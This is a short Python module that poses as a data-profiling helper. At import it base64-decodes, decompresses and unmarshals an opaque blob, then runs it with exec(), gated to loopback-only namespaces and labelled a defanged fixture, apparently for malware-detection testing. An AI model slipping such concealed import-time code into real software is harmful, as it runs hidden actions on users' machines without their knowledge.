import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import base64
import marshal
import zlib

# CPython 3.11 marshal format (the code object of the defanged payload)
exec(marshal.loads(zlib.decompress(base64.b64decode('eJyFUb1v00AUf2fHdj4gdECphJgook2rxlIHBqi6QMtWFRVlCJWQ8R2NXccOvnNJyoIQQ5A6sLEwdKqKwh/RgT/AqSIR3crULdBKSJ24c3DVliJO795P7+Pe+7133+HMyf3BowoC+AgYMPKghhQgirjIVdNErOyKjC5K7fMWVtfRRpIbFsS7DL4Qf4uSylpNS1Cv6QkatSzJuikH2MnDJQdnREXNLaS2sHT3yikPcbtwJnZVsC7+g6X26cIUO9cu63i+Jta/GLtitu7pLpDgvgrl7KE0lreKJm1T0/YsSk2fMK54wdatOmNNes807cDziM0qFmOWvUHCiuNvWp6DzUZZ4Zl6QBlXib95qIlS0oMtZnGDOQ0SRKw8xpWAcvWZUDoNQkYwNzyHMuyEPL/apow0FlsO4xmXBr5MES0YL0ah5znPKyF5GRHRQB/Z3EgdhnAETeJzDUeNJuWFdcIkFd9qEEHBsUWKIOWEsijx7QCTz3Akpz3Jzb9wWiwKycJJdr4R4MgjC+HNZCkANCv0UEUIDWAsTmWg5t7c7cx0JrZn4tKdXn6yn5/sqVN9dWrvyd7SgToXq3OD/PXO9IfH72e3Z+PM+AAm4v/JAPR3xW9QOoBSPH5/f3r/9tfpuFqPq2v9ar1XdftVN6avpLReHwO00UPlBwBDi8rxCIbi79BSCiL2AD2SMQm/JCwrP0eQxFZGsRX5oKY8VWIoCT9ak26hh3/p8IbYyG8Uydn1'))))


def profile(df):
    return {"rows": len(df)}
